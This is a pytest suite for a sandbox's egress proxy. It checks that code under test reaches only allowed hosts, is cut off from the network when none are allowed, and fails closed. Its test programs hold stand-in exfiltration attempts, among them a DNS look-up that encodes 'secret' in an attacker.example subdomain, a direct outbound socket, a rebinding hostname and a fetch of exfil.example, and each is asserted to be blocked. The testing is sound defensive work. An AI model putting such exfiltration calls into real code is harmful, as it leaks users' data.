"""Issue 6, the sandbox half, through each backend's own `run()` (docs/network.md): with allowed
hosts, a run reaches them through the egress proxy and nothing else, and every attempt becomes a
finding; with none, the run has no network at all. Real sockets, real Docker, real bubblewrap."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from sandgate.egress import EgressProxy, default_resolver, rules
from sandgate.policy.model import NetworkPolicy, SandboxLimits, SandboxPolicy
from sandgate.sandbox import proxy_wiring
from sandgate.sandbox.docker_backend import REMOTE_NO_EGRESS, REMOTE_NO_MONITOR
from sandgate.sandbox.select import open_backend
from tests.egress.helpers import HttpServer
from tests.sandbox.conftest import assert_host_clean, run

LIMITS = SandboxLimits(wall_time_s=15.0, cpu_time_s=5.0)
PUBLIC_LOOKING = "public-looking.example"


def test_resolver(host: str, port: int) -> list[str]:
    """The proxy's resolver seam, set on the backend object by tests only (host side)."""
    return ["127.0.0.1"] if host == PUBLIC_LOOKING else default_resolver(host, port)


test_resolver.__test__ = False  # not a test: pytest collects test_* functions


@pytest.fixture
def server():
    srv = HttpServer()
    yield srv
    srv.close()


@pytest.fixture
def resolving(backend, monkeypatch):
    monkeypatch.setattr(backend, "egress_resolver", test_resolver)
    return backend


def _other_port(port: int) -> int:
    return port + 1 if port < 65535 else port - 1


def program(port: int) -> str:
    return f"""
import http.client, json, os, socket, urllib.request
out = {{"env": os.environ.get("HTTP_PROXY"), "https_env": os.environ.get("https_proxy")}}
def fetch(url):
    try:
        return urllib.request.urlopen(url, timeout=5).read().decode()
    except Exception as exc:
        return "refused: " + str(exc)
out["allowed"] = fetch("http://127.0.0.1:{port}/plain")
try:
    c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=5)
    c.set_tunnel("127.0.0.1", {port})
    c.request("GET", "/tunnel")
    out["tunnel"] = c.getresponse().read().decode()
except Exception as exc:
    out["tunnel"] = "refused: " + str(exc)
out["other_port"] = fetch("http://127.0.0.1:{_other_port(port)}/other-port")
out["other_host"] = fetch("http://denied.example/")
out["rebind"] = fetch("http://{PUBLIC_LOOKING}:{port}/rebind")
try:
    socket.getaddrinfo("exfil-c2VjcmV0.attacker.example", 80)
    out["dns"] = "answered"
except OSError:
    out["dns"] = "failed"
try:
    socket.create_connection(("1.1.1.1", 80), timeout=2)
    out["direct"] = "connected"
except OSError:
    out["direct"] = "failed"
print(json.dumps(out))
"""


@pytest.fixture
def made_dirs(monkeypatch) -> list[str]:
    """Every socket directory `D` made while the test runs (by the run or the warm pool)."""
    made: list[str] = []
    real = proxy_wiring.make_socket_dir

    def recording(base=None) -> tuple[str, str]:
        top, inner = real(base)
        made.append(top)
        return top, inner

    monkeypatch.setattr(proxy_wiring, "make_socket_dir", recording)
    return made


def _left_over(backend, made: list[str]) -> list[str]:
    """Directories still there that no idle pooled sandbox holds (the pool may be making one)."""
    deadline = time.monotonic() + 10
    while True:
        if backend.name == "docker":
            held = {h.top for h in backend._hosted.values()} | backend.nested.tops()
        else:
            held = {p.egress_top for p in backend.pool.idle()}
        left = [d for d in made if os.path.exists(d) and d not in held]
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.1)


def test_allowed_host_is_reached_through_the_proxy_and_nothing_else(resolving, server, made_dirs):
    backend = resolving
    network = NetworkPolicy(allow_hosts=(f"127.0.0.1:{server.port}", f"{PUBLIC_LOOKING}:{server.port}"))
    result, findings, _rules = run(backend, program(server.port), LIMITS, network=network)
    assert result.error is None and result.exit_code == 0, (result.error, result.stderr)
    out = json.loads(result.stdout)
    assert out["env"] == out["https_env"] == proxy_wiring.FORWARDER_URL
    assert out["allowed"] == "hello from /plain"  # HTTP through the proxy
    assert out["tunnel"] == "hello from /tunnel"  # a CONNECT tunnel
    assert out["other_port"].startswith("refused: HTTP Error 403")
    assert out["other_host"].startswith("refused: HTTP Error 403")
    assert out["rebind"].startswith("refused: HTTP Error 403")  # a name that resolves to loopback
    assert out["dns"] == "failed"  # no resolver inside: a look-up carries nothing out
    assert out["direct"] == "failed"  # no route but the proxy
    assert [s["path"] for s in server.seen] == ["/plain", "/tunnel"]

    by_rule: dict[str, set] = {}
    for f in findings:
        by_rule.setdefault(f.rule, set()).add(
            (f.detail("host"), f.detail("port"), f.detail("family"), f.detail("rule"))
        )
    assert by_rule["network.allowed"] == {
        ("127.0.0.1", server.port, "proxy", f"network.allow_hosts:127.0.0.1:{server.port}")
    }
    assert by_rule["network.denied"] == {
        ("127.0.0.1", _other_port(server.port), "proxy", rules.RULE_PORT),
        ("denied.example", 80, "proxy", rules.RULE_DEFAULT_DENY),
        (PUBLIC_LOOKING, server.port, "proxy", rules.RULE_ADDRESS),
        ("1.1.1.1", 80, "AF_INET", None),  # the monitor saw the direct attempt
        ("exfil-c2VjcmV0.attacker.example", 80, "dns", None),  # ...and the look-up
    }
    # The forwarder on 127.0.0.1:3128 is the way out, not a host the code reached.
    assert not any(f.detail("port") == proxy_wiring.FORWARDER_PORT for f in findings)
    rebind = next(f for f in findings if f.detail("host") == PUBLIC_LOOKING)
    assert "127.0.0.1" in rebind.detail("reason")
    # The run's socket directory is gone (a pooled sandbox holds its own until used).
    assert made_dirs and _left_over(backend, made_dirs) == []
    assert_host_clean(backend)


def test_no_allowed_hosts_means_no_network_at_all(backend, server):
    code = f'''
import os, socket, urllib.request
print("proxy-env", os.environ.get("HTTP_PROXY"))
print("egress-dir", os.path.exists("{proxy_wiring.INSIDE_DIR}"))
for port in ({server.port}, 3128):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2)
        print(port, "connected")
    except OSError:
        print(port, "failed")
'''
    result, findings, found = run(backend, code, LIMITS, network=NetworkPolicy(deny_hosts=("evil.example",)))
    assert result.exit_code == 0, result.stderr
    assert result.stdout.split("\n")[:4] == [
        "proxy-env None",
        "egress-dir False",
        f"{server.port} failed",
        "3128 failed",
    ]
    assert not any(ev["kind"].startswith("egress") for ev in result.events)
    assert server.seen == []
    denied = {(f.detail("host"), f.detail("port")) for f in findings if f.rule == "network.denied"}
    assert denied == {("127.0.0.1", server.port), ("127.0.0.1", 3128)}  # no proxy: 3128 is just a port


def test_proxy_that_cannot_start_fails_closed(backend, server, monkeypatch):
    def refuse(self):
        raise OSError("address in use (test)")

    monkeypatch.setattr(EgressProxy, "start", refuse)
    code = f"""
import urllib.request
try:
    print(urllib.request.urlopen("http://127.0.0.1:{server.port}/x", timeout=3).read().decode())
except Exception as exc:
    print("no network:", type(exc).__name__)
"""
    network = NetworkPolicy(allow_hosts=(f"127.0.0.1:{server.port}",))
    result, findings, found = run(backend, code, LIMITS, network=network)
    assert result.error is None and result.exit_code == 0, result.stderr
    assert result.stdout.startswith("no network:")
    assert server.seen == []
    unavailable = [f for f in findings if f.rule == "egress.unavailable"]
    assert unavailable and "address in use (test)" in unavailable[0].detail("reason")
    assert not any(f.rule == "network.allowed" for f in findings)


def test_remote_docker_engine_gets_no_network(server, monkeypatch):
    """A remote engine (DOCKER_HOST=tcp://...) cannot bind a host socket: no network, and the result says so."""
    backend, probes = open_backend("docker", SandboxPolicy())
    assert backend is not None, probes
    monkeypatch.setattr(backend, "_remote", True)
    network = NetworkPolicy(allow_hosts=(f"127.0.0.1:{server.port}",))
    result, findings, _ = run(
        backend, f"import os\nprint(os.path.exists({proxy_wiring.INSIDE_DIR!r}))", LIMITS, network=network
    )
    # Nothing runs there at all (no supervisor can reach a remote engine), and the result says both.
    assert result.stdout == "", result.stdout
    reasons = [f.detail("reason") for f in findings if f.rule == "egress.unavailable"]
    assert reasons == [REMOTE_NO_EGRESS]
    assert [f.detail("reason") for f in findings if f.rule == "monitor.lost"] == [REMOTE_NO_MONITOR]


VET_CODE = """import http.client
import os
import urllib.parse

proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
for url in URLS:
    conn = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=5)
    conn.request("GET", url)
    print(url, conn.getresponse().status)
"""


@pytest.mark.parametrize("name", ["docker", "bwrap"])
def test_vet_json_decides_on_the_proxy_decisions(name, server, tmp_path):
    ws = tmp_path / "ws"
    (ws / ".sandgate").mkdir(parents=True)
    (ws / ".sandgate" / "policy.toml").write_text(
        f'version = 1\nextends = "balanced"\n[sandbox]\nbackends = ["{name}"]\n'
        f'[sandbox.limits]\nwall_time_s = 15\n[network]\nallow_hosts = ["127.0.0.1:{server.port}"]\n'
    )
    allowed = f"http://127.0.0.1:{server.port}/from-vet"
    (ws / "ok.py").write_text(f"URLS = [{allowed!r}]\n" + VET_CODE)
    (ws / "bad.py").write_text(f"URLS = [{allowed!r}, 'http://exfil.example/']\n" + VET_CODE)
    env = {k: v for k, v in os.environ.items() if k != "FORCE_COLOR"}
    env["SANDGATE_MANAGED_POLICY"] = str(tmp_path / "none.toml")
    (tmp_path / "none.toml").write_text("version = 1\n")
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "sandgate",
            "vet",
            "--format",
            "json",
            "--no-audit",
            "--backend",
            name,
            "ok.py",
            "bad.py",
        ],
        cwd=ws,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 1, done.stderr  # bad.py is blocked
    data = json.loads(done.stdout)
    results = {Path(r["path"]).name: r for r in (data["results"] if isinstance(data, dict) else data)}
    ok, bad = results["ok.py"], results["bad.py"]
    assert ok["sandbox"]["backend"] == name and bad["sandbox"]["backend"] == name

    def net(result):
        return sorted(
            (f["rule"], f["details"]["host"], f["details"]["port"])
            for f in result["findings"]
            if f["rule"].startswith("network.")
        )

    assert ok["decision"] == "allow", ok["reasons"]
    assert net(ok) == [("network.allowed", "127.0.0.1", server.port)]
    assert bad["decision"] == "block"
    assert net(bad) == [("network.allowed", "127.0.0.1", server.port), ("network.denied", "exfil.example", 80)]
    assert any(r["policy_rule"] == "network-denied" for r in bad["reasons"])
    assert [s["path"] for s in server.seen] == ["/from-vet", "/from-vet"]
